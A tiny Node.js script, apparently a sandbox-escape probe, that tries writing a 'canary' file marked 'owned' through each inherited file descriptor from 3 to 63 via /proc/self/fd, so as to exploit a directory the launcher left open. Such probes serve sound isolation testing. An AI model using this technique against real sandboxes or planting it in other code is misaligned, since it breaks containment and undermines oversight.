// Uses a directory that the launcher left open.
import { writeFileSync } from 'node:fs';

for (let descriptor = 3; descriptor < 64; descriptor++) {
  try {
    writeFileSync(`/proc/self/fd/${descriptor}/canary`, 'owned\n');
  } catch {}
}
